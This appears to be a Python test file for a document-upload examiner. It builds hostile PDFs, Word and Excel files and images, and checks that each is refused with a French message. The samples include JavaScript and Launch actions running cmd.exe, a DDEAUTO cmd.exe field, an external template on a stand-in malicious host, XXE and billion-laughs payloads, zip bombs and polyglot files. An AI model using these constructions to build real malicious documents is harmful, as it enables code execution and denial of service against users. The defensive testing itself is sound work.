"""Hostile files, made on the spot: each is refused with a French sentence, or read without harm."""

import contextlib
import struct
import zipfile
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from ami_portal.documents import examiner, measure
from ami_portal.documents.enums import Verdict
from ami_portal.documents.examiner import office_file
from ami_portal.documents.examiner.headings import mark
from ami_portal.documents.examiner.refusal import Refused
from tests.documents import files, hostile

REMOTE = (
    b'<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'attachedTemplate" Target="https://mal.example/modele.dotm" TargetMode="External"/></Relationships>'
)
DDE = b'<document><instrText xml:space="preserve"> DDEAUTO c:\\\\cmd.exe</instrText></document>'


def refusal(content):
    """The sentence of the refusal, read in this process: these files are small."""
    with pytest.raises(Refused) as caught:
        examiner.reader_of(content).examine(content, {})
    return str(caught.value)


def a_pdf_with(change):
    """A PDF of one page, changed by `change(writer)`."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    change(writer)
    return files.saved(writer)


def action(kind, **more):
    entries = {NameObject("/S"): NameObject(kind)} | {NameObject(f"/{key}"): value for key, value in more.items()}
    return DictionaryObject(entries)


def root(key, value):
    return lambda writer: writer.root_object.update({NameObject(key): value})


def annotation(subtype, **more):
    entry = DictionaryObject(
        {NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject(subtype)}
        | {NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4)}
        | {NameObject(f"/{key}"): value for key, value in more.items()}
    )
    return lambda writer: writer.pages[0].update({NameObject("/Annots"): ArrayObject([entry])})


JAVASCRIPT = action("/JavaScript", JS=TextStringObject("app.alert(1)"))
LAUNCH = action("/Launch", F=TextStringObject("cmd.exe"))


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (a_pdf_with(root("/OpenAction", JAVASCRIPT)), "programme ou une action"),
        (
            a_pdf_with(root("/Names", DictionaryObject({NameObject("/JavaScript"): ArrayObject([])}))),
            "programme ou une",
        ),
        (a_pdf_with(annotation("/Link", A=LAUNCH)), "programme ou une action"),
        (a_pdf_with(annotation("/Widget", AA=DictionaryObject({NameObject("/K"): JAVASCRIPT}))), "programme ou une"),
        (a_pdf_with(lambda writer: writer._add_object(JAVASCRIPT)), "programme ou une action"),  # nothing refers to it
        (a_pdf_with(lambda writer: writer.add_attachment("a.exe", b"MZ")), "fichiers joints"),
        (a_pdf_with(annotation("/RichMedia")), "fichiers joints ou du multimédia"),
        (a_pdf_with(root("/AcroForm", DictionaryObject({NameObject("/XFA"): ArrayObject([])}))), "XFA"),
        (files.a_pdf().replace(b"%%EOF", b"1 0 obj <</S /JavaScript /Q (x)>> %%EOF"), "programme ou une action"),
        (hostile.a_long_pdf(501), "501 pages"),
        (hostile.a_long_pdf(4).replace(b"/Count 4", b"/Count 3"), "annonce 3 pages et en contient 4"),
        (files.a_pdf().replace(b"/Count 1", b"/Count 100000"), "100000 pages : 500 au plus"),
        (files.a_pdf() + files.an_archive({"a.exe": b"MZ"}), "à la fois un PDF et une archive"),
        (files.a_png() + files.an_archive({"a.exe": b"MZ"}), "à la fois une image et une archive"),
        (files.a_jpeg() + files.a_docx(), "à la fois une image et une archive"),
    ],
)
def test_a_hostile_pdf_or_image_is_refused(content, words):
    assert words in refusal(content)


def a_bomb(parts, size):
    return files.an_archive({f"p{number}": b"\0" * size for number in range(parts)})


def two_parts_of_one_name():
    content = files.a_docx(**{"word/documenX.xml": b"<other/>"})
    return content.replace(b"word/documenX.xml", b"word/document.xml")


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (files.a_docx(**{"word/other.xml": hostile.XXE}), "XML dangereux"),
        (files.a_docx(**{"word/wide.xml": hostile.XXE.decode().encode("utf-16")}), "XML dangereux"),
        (files.an_xlsx(**{"xl/laughs.xml": hostile.LAUGHS}), "XML dangereux"),
        (files.a_docx(**{"word/vbaProject.bin": b"x"}), "macros"),
        (files.a_docx(**{"word/activeX/activeX1.xml": b"<x/>"}), "macros"),
        (files.a_docx(**{"[Content_Types].xml": hostile.MACROS}), "macros"),
        (files.a_docx(**{"word/media/image.png": files.an_archive({"a": b"x"})}), "archive cachée"),
        (files.an_xlsx(**{"xl/embeddings/a.bin": b"Rar!\x1a\x07"}), "archive cachée"),
        (files.a_docx(**{"word/_rels/settings.xml.rels": REMOTE}), "lien automatique"),
        (files.a_docx(**{"word/header1.xml": DDE}), "lien automatique"),
        (files.an_xlsx(**{"xl/externalLinks/e.xml": b"<externalLink><ddeLink/></externalLink>"}), "lien automatique"),
        (files.a_docx(**{"xl/workbook.xml": b"<workbook/>"}), "à la fois un fichier Word et un fichier Excel"),
        (files.an_archive({"a.txt": b"x"}), "ni un fichier Word, ni un fichier Excel"),
        (two_parts_of_one_name(), "archive cachée"),
        (files.an_archive({f"p{number}": b"" for number in range(5_001)}), "trop gros"),
    ],
)
def test_a_hostile_office_file_is_refused(content, words):
    assert words in refusal(content)


def test_what_unpacks_to_too_much_is_stopped_on_the_way(monkeypatch):
    monkeypatch.setattr(office_file, "MAX_UNPACKED", 40_000_000)
    assert "trop gros" in refusal(files.a_docx(**{"word/document.xml": b" " * (31 * 1024**2)}))
    assert "trop gros" in refusal(a_bomb(5, 10_000_000))


@pytest.mark.parametrize("declaration", [b"<!DOCTYPE x>", "<!DOCTYPE x>".encode("utf-16-le")])
def test_a_declaration_cut_between_two_reads_is_seen(declaration):
    content = b" " * (office_file.CHUNK - 5) + declaration
    assert "XML dangereux" in refusal(files.an_archive({"a.xml": content}, compression=zipfile.ZIP_STORED))


def test_a_document_of_too_many_paragraphs():
    main = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    document = f'<w:document xmlns:w="{main}"><w:body>{"<w:p/>" * 100_001}</w:body></w:document>'.encode()
    assert "plus de 100 000 paragraphes" in refusal(files.a_docx(**{"word/document.xml": document}))


def test_twenty_million_paragraphs_are_never_parsed():
    main = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    head, tail = b'<w:document xmlns:w="' + main + b'"><w:body>', b"</w:body></w:document>"
    report = measure.examine(files.a_docx(**{"word/document.xml": head + b"<w:p/>" * 20_000_000 + tail}))
    assert (report.verdict, "trop gros" in report.reason) == (Verdict.REFUSED, True)


def test_a_directory_that_lies():
    assert measure.examine(hostile.a_lying_archive(1_000)).verdict == Verdict.REFUSED


def test_a_loop_in_the_tree_of_pages_ends():
    content = files.a_pdf()
    kids = content.index(b"/Kids")
    looped = content[:kids] + content[kids:].replace(b"4 0 R", b"1 0 R", 1)
    report = measure.examine(looped)
    assert (report.verdict, report.pages) in ((Verdict.REFUSED, None), (Verdict.ACCEPTED, 1))


def test_a_cell_at_the_far_corner_is_not_walked_to():
    import openpyxl

    book = openpyxl.Workbook()
    book.active["A1"], book.active["XFD1048576"] = "x", "y"
    content = files.saved(book)
    assert examiner.reader_of(content).examine(content, {})["tabs"] == [
        {"name": "Sheet", "rows": 1, "cells": 1, "text": mark(["x"])}
    ]


def test_an_image_of_absurd_dimensions_is_not_decoded():
    content = bytearray(files.a_png())
    content[16:24] = struct.pack(">II", 40_000, 40_000)
    content[29:33] = struct.pack(">I", zlib.crc32(bytes(content[12:29])))
    assert "trop grande" in refusal(bytes(content))


@settings(max_examples=60, deadline=None, derandomize=True)
@given(st.data())
def test_a_damaged_file_is_read_or_refused_never_hung(data):
    """Bytes changed anywhere: facts, a refusal, or an error that the child turns into one."""
    content = bytearray(data.draw(st.sampled_from([files.a_pdf(2), files.a_docx(), files.an_xlsx(), files.a_png()])))
    for _ in range(data.draw(st.integers(1, 8))):
        content[data.draw(st.integers(8, len(content) - 1))] = data.draw(st.integers(0, 255))
    with contextlib.suppress(Exception):  # any error ends the child, which is a refusal
        facts = examiner.reader_of(bytes(content)).examine(bytes(content), {})
        assert facts["kind"] in ("pdf", "word", "excel", "image")
